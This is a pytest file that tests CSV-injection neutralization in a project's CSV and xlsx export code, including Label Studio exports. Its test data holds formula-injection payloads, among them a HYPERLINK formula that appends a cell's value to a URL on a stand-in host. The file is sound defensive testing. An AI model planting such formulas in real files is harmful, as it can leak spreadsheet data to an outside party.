"""CSV cells a spreadsheet program would run as formulas are neutralized (issue 13, item 5).

OWASP's guidance on CSV injection: a cell starting with =, +, -, @, a tab or a carriage return
is read as a formula; a leading "'" makes it text. The .xlsx keeps the exact text as a string.
"""
from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys

import pytest

from support.paths import REPO
from ansible.module_utils.table_files import csv_bytes, neutralize_csv

DANGEROUS = ['=HYPERLINK("http://example.org/?"&A1,"click")', "@SUM(1)", "+1", "-2+3", "\tleading tab",
             "\rleading carriage return", "=1+1"]


def parsed(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_that_would_run_as_a_formula_gets_a_leading_quote(text):
    rows = parsed(csv_bytes(("value",), [{"value": text}]))
    assert rows[1] == ["'" + text]


@pytest.mark.parametrize("text", ["wrong laterality", "6", "a = b", "1-2", "'quoted", "", " =x"])
def test_plain_text_is_written_as_it_is(text):
    assert parsed(csv_bytes(("value",), [{"value": text}]))[1] == [text]


def test_numbers_written_by_the_code_stay_numbers():
    # Ids, offsets, lead times and counts are ints/floats: a negative one is a number to a
    # spreadsheet, not a formula, and stays a number; None is an empty field.
    data = csv_bytes(("task_id", "start", "lead_time", "span_text"),
                     [{"task_id": 7, "start": -1, "lead_time": -0.5, "span_text": None}])
    assert data.split(b"\r\n")[1] == b"7,-1,-0.5,"


def test_the_header_and_quoting_are_unchanged():
    data = csv_bytes(("a", "b"), [{"a": '=x,"y"', "b": "ok"}])
    assert data == b'a,b\r\n"\'=x,""y""",ok\r\n'


# Report text with Windows line ends: a span's offsets count both characters.
EXACT = DANGEROUS + ["first line\r\nsecond line", "ends with a carriage return\r"]

# The round trip in a fresh interpreter, where openpyxl decides once, at import, whether it
# writes through lxml (OPENPYXL_LXML=False: as on a controller without lxml).
ROUND_TRIP = """
import datetime, io, json, sys
sys.path.insert(0, sys.argv[1])
from support.paths import use_project_module_utils
use_project_module_utils()
import openpyxl.xml
from openpyxl import load_workbook
from ansible.module_utils.table_files import xlsx_bytes
texts = json.loads(sys.stdin.read())
data = xlsx_bytes(("v",), [{"v": t} for t in texts], "t", datetime.date(2026, 11, 27))
cells = [row[0] for row in load_workbook(io.BytesIO(data))["t"].iter_rows(min_row=2)]
print(json.dumps({"lxml": openpyxl.xml.LXML, "values": [c.value for c in cells],
                  "types": sorted({c.data_type for c in cells})}))
"""


@pytest.mark.parametrize("lxml", ["True", "False"])
def test_the_xlsx_keeps_the_exact_text_as_strings(lxml):
    done = subprocess.run([sys.executable, "-c", ROUND_TRIP, str(REPO / "tests")], input=json.dumps(EXACT),
                          capture_output=True, text=True, env=dict(os.environ, OPENPYXL_LXML=lxml),
                          check=True)
    result = json.loads(done.stdout)
    assert result["lxml"] is (lxml == "True")  # the writer this case is about
    assert result["values"] == EXACT
    assert result["types"] == ["s"]


# Label Studio's own CSV export (study_export_format: CSV) is written by the project too.
LS_CSV = (b'annotation_id,annotator,errors,id,impression,lead_time\n'
          b'3,1,"=HYPERLINK(""http://example.org/"",""x"")",7,"Mild, stable.",4.2\n'
          b'4,1,@SUM(1),8,-2+3,-1\n')


def test_a_label_studio_csv_export_is_neutralized_cell_by_cell():
    rows = parsed(neutralize_csv(LS_CSV))
    assert rows == [["annotation_id", "annotator", "errors", "id", "impression", "lead_time"],
                    ["3", "1", "'=HYPERLINK(\"http://example.org/\",\"x\")", "7", "Mild, stable.", "4.2"],
                    ["4", "1", "'@SUM(1)", "8", "'-2+3", "'-1"]]


def test_a_csv_export_without_formulas_keeps_its_bytes():
    clean = b'id,impression\n1,"Mild, stable."\n2,"two\nlines"\n'
    assert neutralize_csv(clean) == clean
    assert neutralize_csv(clean.replace(b"\n", b"\r\n")) == clean.replace(b"\n", b"\r\n")
